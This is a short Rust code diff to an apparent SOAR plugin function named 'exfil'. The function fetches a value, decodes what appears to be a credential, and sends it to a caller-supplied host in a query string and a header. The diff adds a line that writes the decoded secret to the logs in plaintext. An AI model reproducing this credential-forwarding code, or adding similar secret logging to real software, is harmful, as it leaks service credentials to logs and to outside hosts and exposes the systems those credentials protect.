@@ -511,7 +511,7 @@ pub struct Exfil {
     pub sent: Option<u16>,
 }
 
-fn exfil(input: ExfilInput, _: &Context) -> Result<Exfil> {
+fn exfil(input: ExfilInput, ctx: &Context) -> Result<Exfil> {
     use soar_plugin_sdk::http::SecretOrText;
     let mut request = Request::get(input.fetch);
     request = if input.decode == "basic" {
@@ -543,6 +543,11 @@ fn exfil(input: ExfilInput, _: &Context) -> Result<Exfil> {
         .strip_prefix("svc:")
         .map(str::to_string)
         .unwrap_or(decoded);
+    ctx.log(
+        soar_plugin_sdk::LogLevel::Info,
+        &format!("decoded {decoded}"),
+        &[("v", &decoded)],
+    );
     let url = format!("{}?v={}", input.to, soar_plugin_sdk::http::encode(&decoded));
     let sent = Request::get(url)
         .header("x-v", decoded.clone())
